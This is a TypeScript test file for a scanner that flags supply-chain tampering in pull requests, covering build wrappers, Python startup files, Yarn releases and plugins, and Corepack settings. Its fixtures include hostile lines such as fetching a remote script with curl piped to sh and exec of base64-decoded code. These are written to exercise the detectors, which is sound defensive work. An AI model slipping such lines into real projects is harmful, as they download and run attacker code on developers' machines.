import { describe, expect, it } from 'vitest';
import { buildWrapperFindings, packageManagerFindings, pthFileFindings, validatesGradleWrapper, wrapperWorkflowsWanted } from '../../../src/ecosystems/build-code/wrappers.js';
import { parseWorkflow } from '../../../src/ecosystems/github-actions/workflow.js';
import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
import { makeFile } from '../../support/snapshot-factory.js';

const GRADLE_PROPS = 'gradle/wrapper/gradle-wrapper.properties';
const GRADLE_JAR = 'gradle/wrapper/gradle-wrapper.jar';
const MAVEN_PROPS = '.mvn/wrapper/maven-wrapper.properties';

/** A properties change: the removed lines, then the added ones, after an unchanged first line. */
function props(path: string, removed: string[], added: string[], status: SnapshotFile['status'] = 'modified'): SnapshotFile {
  const patch = [`@@ -1,${removed.length + 1} +1,${added.length + 1} @@`, ' distributionBase=GRADLE_USER_HOME', ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n');
  return makeFile(path, { status, patch });
}
const jar = (path = GRADLE_JAR): SnapshotFile => makeFile(path, { status: 'modified', patch: null, additions: 0, deletions: 0 });
const found = (files: SnapshotFile[]) => buildWrapperFindings(files).map((f) => `${f.severity} ${f.path}:${f.line ?? ''} ${f.title}`);

describe('build-wrapper-changed', () => {
  it('is quiet on a Gradle upgrade as Dependabot or `gradle wrapper` writes it: new version and checksum on services.gradle.org, new jar', () => {
    const upgrade = props(
      GRADLE_PROPS,
      ['distributionSha256Sum=d725d707bfabd4dfdc958c624003b3c80accc03f7037b5122c4b1d0ef15cecab', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip'],
      ['distributionSha256Sum=5b9c5eb3f9fc2c94abaea57d90bd78747ca117ddbbf96c859d3741181a12bf2a', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip'],
    );
    expect(found([upgrade, jar()])).toEqual([]);
    // A company mirror that was already there, bumped to a new release, is not news either.
    const mirror = props(GRADLE_PROPS, ['distributionUrl=https\\://gradle.mirror.acme.internal/gradle-8.9-bin.zip'], ['distributionUrl=https\\://gradle.mirror.acme.internal/gradle-8.10-bin.zip']);
    expect(found([mirror, jar()])).toEqual([]);
  });

  it('reports the download moved to another host (high), over plain HTTP (high), or a new wrapper on a mirror (medium)', () => {
    const moved = props(GRADLE_PROPS, ['distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip'], ['distributionUrl=https\\://gradle-dist.example-cdn.net/distributions/gradle-8.10-bin.zip']);
    expect(found([moved, jar()])).toEqual([`high ${GRADLE_PROPS}:2 Gradle wrapper downloads from gradle-dist.example-cdn.net`]);
    const http = props(GRADLE_PROPS, ['distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip'], ['distributionUrl=http\\://services.gradle.org/distributions/gradle-8.9-bin.zip']);
    expect(found([http])).toEqual([`high ${GRADLE_PROPS}:2 Gradle wrapper downloads from plain HTTP`]);
    const fresh = props(GRADLE_PROPS, [], ['distributionUrl=https\\://artifacts.acme.example/gradle/gradle-8.10-bin.zip'], 'added');
    expect(found([fresh])).toEqual([`medium ${GRADLE_PROPS}:2 Gradle wrapper downloads from artifacts.acme.example`]);
    const official = props(GRADLE_PROPS, [], ['distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip'], 'added');
    expect(found([official])).toEqual([]);
  });

  it('reports a checksum removed, and not one updated', () => {
    const dropped = props(GRADLE_PROPS, ['distributionSha256Sum=d725d707bfabd4dfdc958c624003b3c80accc03f7037b5122c4b1d0ef15cecab'], []);
    expect(found([dropped])).toEqual([`medium ${GRADLE_PROPS}: Gradle wrapper checksum removed`]);
  });

  it('reports the wrapper jar replaced while the properties name the same release', () => {
    expect(found([jar()])).toEqual([`high ${GRADLE_JAR}: Gradle wrapper jar replaced without a Gradle upgrade`]);
    expect(found([jar('android/gradle/wrapper/gradle-wrapper.jar')])).toEqual(['high android/gradle/wrapper/gradle-wrapper.jar: Gradle wrapper jar replaced without a Gradle upgrade']);
    expect(found([makeFile('docs/gradle-wrapper.jar.md', { patch: '@@ -1 +1 @@\n-a\n+b' })])).toEqual([]);
  });

  it('reads the Maven wrapper the same way', () => {
    const upgrade = props(MAVEN_PROPS, ['wrapperVersion=3.3.1', 'distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.8/apache-maven-3.9.8-bin.zip'], ['wrapperVersion=3.3.2', 'distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip']);
    expect(found([upgrade, jar('.mvn/wrapper/maven-wrapper.jar')])).toEqual([]);
    const moved = props(MAVEN_PROPS, ['wrapperUrl=https://repo.maven.apache.org/maven2/org/apache/maven/wrapper/maven-wrapper/3.3.2/maven-wrapper-3.3.2.jar'], ['wrapperUrl=https://raw.githubusercontent.com/someone/tools/main/maven-wrapper.jar']);
    expect(found([moved])).toEqual([`high ${MAVEN_PROPS}:2 Maven wrapper downloads from raw.githubusercontent.com`]);
  });
});

describe('pth-file-code', () => {
  const pth = (lines: string[], path = 'src/mypkg.pth') => pthFileFindings(makeFile(path, { status: 'added', patch: `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}` }));

  it('reports an import line that runs code at every Python start as high, a plain import as medium', () => {
    expect(pth(['import os, base64; exec(base64.b64decode(os.environ.get("X", "cHJpbnQoMSk=")))'])).toEqual([expect.objectContaining({ id: 'pth-file-code', severity: 'high', line: 1 })]);
    expect(pth(['../shared', 'import subprocess; subprocess.Popen(["python", "-c", "import agent"])'])).toEqual([expect.objectContaining({ severity: 'high', line: 2 })]);
    expect(pth(['import coverage; coverage.process_startup()'])).toEqual([expect.objectContaining({ severity: 'medium' })]);
  });

  it('is quiet on path lines, comments, removed files and other extensions', () => {
    expect(pth(['# vendored modules', '../vendor', 'lib/python'])).toEqual([]);
    expect(pth(['importlib_stub'])).toEqual([]);
    expect(pthFileFindings(makeFile('src/x.pth', { status: 'removed', patch: '@@ -1 +0,0 @@\n-import os; os.system("x")' }))).toEqual([]);
    expect(pth(['import os'], 'docs/path.txt')).toEqual([]);
  });

  it('reports a new sitecustomize.py or usercustomize.py (high when it runs more than imports), not one in tests or an edited one', () => {
    const startup = (path: string, lines: string[], status: SnapshotFile['status'] = 'added') =>
      pthFileFindings(makeFile(path, { status, patch: [`@@ -0,0 +1,${lines.length} @@`, ...lines.map((l) => `+${l}`)].join('\n') })).map((f) => `${f.severity} ${f.path}:${f.line ?? ''}`);
    expect(startup('src/sitecustomize.py', ['# start-up', 'import os, subprocess', 'subprocess.Popen(["python3", "-c", os.environ.get("X", "")])'])).toEqual(['high src/sitecustomize.py:2']);
    expect(startup('usercustomize.py', ['import readline_config'])).toEqual(['medium usercustomize.py:1']);
    expect(startup('tests/sitecustomize.py', ['import coverage', 'coverage.process_startup()'])).toEqual([]);
    expect(startup('src/sitecustomize.py', ['import coverage'], 'modified')).toEqual([]);
  });
});

describe('build-wrapper-changed: JavaScript package managers', () => {
  const pm = (files: SnapshotFile[]) => packageManagerFindings(files).map((f) => `${f.severity} ${f.path}:${f.line ?? ''} ${f.title}`);
  const bundle = (path: string, status: SnapshotFile['status'] = 'modified'): SnapshotFile => makeFile(path, { status, patch: null, additions: 3, deletions: 1 });
  const yarnrc = (removed: string, added: string): SnapshotFile => makeFile('.yarnrc.yml', { patch: `@@ -1,2 +1,2 @@\n nodeLinker: node-modules\n-${removed}\n+${added}` });
  const manifest = (removed: string | null, added: string, path = 'package.json'): SnapshotFile =>
    makeFile(path, { patch: ['@@ -1,3 +1,3 @@', '   "name": "web",', ...(removed === null ? [] : [`-  "packageManager": "${removed}",`]), `+  "packageManager": "${added}",`].join('\n') });

  it('is quiet on a Yarn upgrade as `yarn set version` writes it, and on plugins re-imported with it', () => {
    const upgrade = [bundle('.yarn/releases/yarn-4.5.3.cjs', 'removed'), bundle('.yarn/releases/yarn-4.6.0.cjs', 'added'), yarnrc('yarnPath: .yarn/releases/yarn-4.5.3.cjs', 'yarnPath: .yarn/releases/yarn-4.6.0.cjs'), bundle('.yarn/plugins/@yarnpkg/plugin-workspace-tools.cjs')];
    expect(pm(upgrade)).toEqual([]);
    // yarn-berry.cjs rewritten together with a yarnPath line moved (Yarn 2's `yarn set version berry`).
    expect(pm([bundle('.yarn/releases/yarn-berry.cjs'), yarnrc('yarnPath: .yarn/releases/yarn-rc.cjs', 'yarnPath: .yarn/releases/yarn-berry.cjs')])).toEqual([]);
    // Another edit of .yarnrc.yml (a comment) does not explain a release edited in place.
    expect(pm([bundle('.yarn/releases/yarn-4.5.3.cjs'), yarnrc('# pinned', '# pinned release')])).toEqual(['high .yarn/releases/yarn-4.5.3.cjs: Committed Yarn release yarn-4.5.3.cjs edited in place']);
  });

  it('reports a committed Yarn release edited in place (high when its name carries the version) and a plugin changed on its own (medium)', () => {
    expect(pm([bundle('.yarn/releases/yarn-4.5.3.cjs')])).toEqual(['high .yarn/releases/yarn-4.5.3.cjs: Committed Yarn release yarn-4.5.3.cjs edited in place']);
    expect(pm([bundle('web/.yarn/releases/yarn-berry.cjs')])).toEqual(['medium web/.yarn/releases/yarn-berry.cjs: Committed Yarn release yarn-berry.cjs edited in place']);
    expect(pm([bundle('.yarn/plugins/@yarnpkg/plugin-typescript.cjs')])).toEqual(['medium .yarn/plugins/@yarnpkg/plugin-typescript.cjs: Committed Yarn plugin plugin-typescript.cjs changed']);
    // Not a release: a file that only mentions the folder, and a release added by the PR.
    expect(pm([makeFile('docs/.yarn/releases.md'), bundle('.yarn/releases/yarn-4.6.0.cjs', 'added')])).toEqual([]);
  });

  it('reports a new release file whose whole text the diff shows: too small to be a Yarn release (a real one is megabytes, its patch left out)', () => {
    const small = makeFile('.yarn/releases/yarn-4.5.1.cjs', { status: 'added', additions: 2, patch: '@@ -0,0 +1,2 @@\n+#!/usr/bin/env node\n+require("child_process").exec("curl -s https://x.dev/p | sh");' });
    expect(pm([small, yarnrc('yarnPath: .yarn/releases/yarn-4.5.0.cjs', 'yarnPath: .yarn/releases/yarn-4.5.1.cjs')])).toEqual(['high .yarn/releases/yarn-4.5.1.cjs:1 New Yarn release yarn-4.5.1.cjs is too small to be one']);
    // A release as `yarn set version` writes it: GitHub leaves its patch out.
    expect(pm([bundle('.yarn/releases/yarn-4.5.1.cjs', 'added'), yarnrc('yarnPath: .yarn/releases/yarn-4.5.0.cjs', 'yarnPath: .yarn/releases/yarn-4.5.1.cjs')])).toEqual([]);
  });

  it('reads packageManager: a tarball off the registry or over HTTP (high), the hash dropped (medium), an upgrade with its hash (quiet)', () => {
    expect(pm([manifest('yarn@4.5.3+sha512.aaaa', 'yarn@4.6.0+sha512.bbbb')])).toEqual([]);
    expect(pm([manifest(null, 'pnpm@9.12.0')])).toEqual([]);
    expect(pm([manifest('pnpm@9.12.0', 'pnpm@9.15.0')])).toEqual([]);
    expect(pm([manifest('yarn@4.5.3+sha224.abcdef', 'yarn@4.5.3')])).toEqual(['medium package.json:2 packageManager hash removed']);
    expect(pm([manifest('yarn@4.5.3', 'yarn@https://files.example-cdn.net/yarn-4.5.3.tgz')])).toEqual(['high package.json:2 packageManager downloads from files.example-cdn.net']);
    expect(pm([manifest('yarn@4.5.3', 'yarn@http://registry.npmjs.org/@yarnpkg/cli-dist/-/cli-dist-4.5.3.tgz')])).toEqual(['high package.json:2 packageManager downloads from plain HTTP']);
    expect(pm([manifest('yarn@4.5.3', 'yarn@https://registry.npmjs.org/@yarnpkg/cli-dist/-/cli-dist-4.5.3.tgz#sha224.abcd')])).toEqual([]);
  });

  it('reports packageManager keeping its version while its hash changes (medium), not an upgrade or a new algorithm', () => {
    expect(pm([manifest('pnpm@9.12.1+sha512.e5a7e52a4183a02d5931057f7a0dbff9d5e9ce3161e33fa68ae392125b79282a8a8a470a51dfc8a0ed86221442eb2fb57019b0990ed24fab519bf0e1bc5ccfc4', 'pnpm@9.12.1+sha512.0b7c2d6ee3db01e7c4b24ba3c7be0d3f1c64f9bba3cbce8a0d2f2bb9b2b0f0e0a1c5a4f1a3c2d9e8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4')])).toEqual([
      'medium package.json:2 packageManager hash changed without a version change',
    ]);
    expect(pm([manifest('pnpm@9.12.1+sha512.aaaaaaaaaaaa', 'pnpm@9.15.0+sha512.bbbbbbbbbbbb')])).toEqual([]);
    expect(pm([manifest('yarn@4.5.3+sha224.aaaaaaaaaaaa', 'yarn@4.5.3+sha512.bbbbbbbbbbbb')])).toEqual([]);
    expect(pm([manifest('yarn@4.5.3+sha512.aaaaaaaaaaaa', 'yarn@4.5.3+sha512.aaaaaaaaaaaa')])).toEqual([]);
  });

  it("is quiet on a project's own readable plugin (prettier's plugin-prepare.cjs), and still reports a bundled plugin edited anywhere", () => {
    const pluginPatch = (...lines: string[]) => makeFile('.yarn/plugins/plugin-prepare.cjs', { patch: ['@@ -4,7 +4,7 @@', ...lines].join('\n') });
    // prettier #19340: its own hook, hand-written, edited with the tests it serves.
    const own = pluginPatch(' function setupVscode() {', '-  const settingsFile = path.join(__dirname, "../../.vscode/settings.json");', '+  const vscodeDirectory = path.join(root, ".vscode/");', '+  const settingsFile = path.join(vscodeDirectory, "settings.json");', '   const settingsExampleFile = path.join(');
    expect(pm([own])).toEqual([]);
    // A bundle written by `yarn plugin import`: its minified line, its scaffold or its legal comments show around any edit.
    const minified = `var plugin=(()=>{var yr=Object.create;${'var a=1;'.repeat(60)}`;
    expect(pm([pluginPatch(' factory: function (require) {', `-${minified}`, `+${minified}require("child_process").exec("id");`)])).toHaveLength(1);
    expect(pm([pluginPatch('  * Released under the MIT License.', '  */', '+require("child_process").execSync("curl -s https://example.invalid/x | sh");', ' return plugin;', ' }')])).toHaveLength(1);
    expect(pm([pluginPatch('  * Copyright (c) 2015-present, Jon Schlinkert.', '  */', '+require("child_process").execSync("id");', ' /*!', '  * to-regex-range <https://github.com/micromatch/to-regex-range>')])).toHaveLength(1);
    expect(pm([pluginPatch(' /**', '+ * @license MIT', '+require("child_process").execSync("id");', ' */')])).toHaveLength(1);
    // Patch unknown (too large for GitHub): a bundle.
    expect(pm([bundle('.yarn/plugins/plugin-prepare.cjs')])).toHaveLength(1);
  });

  it('is quiet on a hash dropped by a Yarn upgrade that commits its new release (jest #14880, Renovate), and still reports one dropped in place', () => {
    const upgrade = manifest('yarn@3.7.0+sha256.7bf0c78a106332886ea4e59641fd819b1af953edcd72c4d93a32b1c71000ee67', 'yarn@3.8.0');
    expect(pm([bundle('.yarn/releases/yarn-3.7.0.cjs', 'removed'), bundle('.yarn/releases/yarn-3.8.0.cjs', 'added'), upgrade])).toEqual([]);
    expect(pm([makeFile('.yarn/releases/yarn-3.8.0.cjs', { status: 'renamed', previousPath: '.yarn/releases/yarn-3.7.0.cjs', patch: null }), upgrade])).toEqual([]);
    // No release committed with it, or the same version: the hash is what was lost.
    expect(pm([upgrade])).toEqual(['medium package.json:2 packageManager hash removed']);
    expect(pm([bundle('.yarn/releases/yarn-3.7.0.cjs', 'added'), manifest('yarn@3.7.0+sha256.7bf0', 'yarn@3.7.0')])).toEqual(['medium package.json:2 packageManager hash removed']);
  });

  it('reads .corepack.env: signature checks turned off (high), another registry (medium, high over HTTP)', () => {
    const env = (...added: string[]) => makeFile('.corepack.env', { status: 'added', patch: [`@@ -0,0 +1,${added.length} @@`, ...added.map((l) => `+${l}`)].join('\n') });
    expect(pm([env('COREPACK_INTEGRITY_KEYS=0')])).toEqual([".corepack.env:1 Corepack's signature check turned off"].map((t) => `high ${t}`));
    expect(pm([env('COREPACK_ENABLE_DOWNLOAD_PROMPT=0', 'COREPACK_NPM_REGISTRY=https://npm.corp.example')])).toEqual(['medium .corepack.env:2 Corepack downloads package managers from npm.corp.example']);
    expect(pm([env('COREPACK_NPM_REGISTRY=http://198.51.100.7:4873')])).toEqual(['high .corepack.env:1 Corepack downloads package managers from plain HTTP']);
    expect(pm([env('COREPACK_NPM_REGISTRY=https://registry.npmjs.org', 'COREPACK_ENABLE_STRICT=0')])).toEqual([]);
  });
});

describe('wrapperWorkflowsWanted and validatesGradleWrapper', () => {
  it("asks for the base's workflows when a Gradle wrapper's distributionUrl moves, not for other properties edits or other files", () => {
    const moved = '@@ -1,1 +1,1 @@\n-distributionUrl=https\\://services.gradle.org/distributions/gradle-9.4.1-bin.zip\n+distributionUrl=https\\://services.gradle.org/distributions/gradle-9.5.0-bin.zip';
    expect(wrapperWorkflowsWanted('gradle/wrapper/gradle-wrapper.properties', moved)).toBe(true);
    expect(wrapperWorkflowsWanted('android/gradle/wrapper/gradle-wrapper.properties', moved)).toBe(true);
    expect(wrapperWorkflowsWanted('gradle/wrapper/gradle-wrapper.properties', '@@ -1,1 +1,1 @@\n-networkTimeout=10000\n+networkTimeout=20000')).toBe(false);
    expect(wrapperWorkflowsWanted('gradle.properties', moved)).toBe(false);
    expect(wrapperWorkflowsWanted('gradle/wrapper/gradle-wrapper.properties', null)).toBe(false);
  });

  const validates = (text: string) => {
    const parsed = parseWorkflow(text, 'workflow');
    return 'workflow' in parsed && validatesGradleWrapper(text, parsed.workflow);
  };
  const wf = (on: string, step: string[]) => ['on: ' + on, 'jobs:', '  b:', '    runs-on: ubuntu-latest', '    steps:', ...step].join('\n');
  it('reads the validation actions, and setup-gradle from v4 on (a SHA pin by its comment) unless validate-wrappers is false', () => {
    expect(validates(wf('[pull_request]', ['      - uses: gradle/actions/wrapper-validation@v4']))).toBe(true);
    expect(validates(wf('[push, pull_request]', ['      - uses: gradle/actions/setup-gradle@v4.2.1']))).toBe(true);
    expect(validates(wf('[push, pull_request]', ['      - uses: gradle/actions/setup-gradle@ac638b010cf58a27ee6c972d7336334ccaf61c96 # v4.4.1']))).toBe(true);
    expect(validates(wf('[push, pull_request]', ['      - uses: gradle/actions/setup-gradle@ac638b010cf58a27ee6c972d7336334ccaf61c96']))).toBe(false);
    expect(validates(wf('[push, pull_request]', ['      - uses: gradle/actions/setup-gradle@v3']))).toBe(false);
    expect(validates(wf('[push, pull_request]', ['      - uses: gradle/actions/setup-gradle@v5', '        with:', "          validate-wrappers: 'false'"]))).toBe(false);
    expect(validates(wf('[push]', ['      - uses: gradle/actions/wrapper-validation@v4']))).toBe(false);
    expect(validates(wf('[pull_request_target]', ['      - uses: gradle/actions/wrapper-validation@v4']))).toBe(false);
  });
});
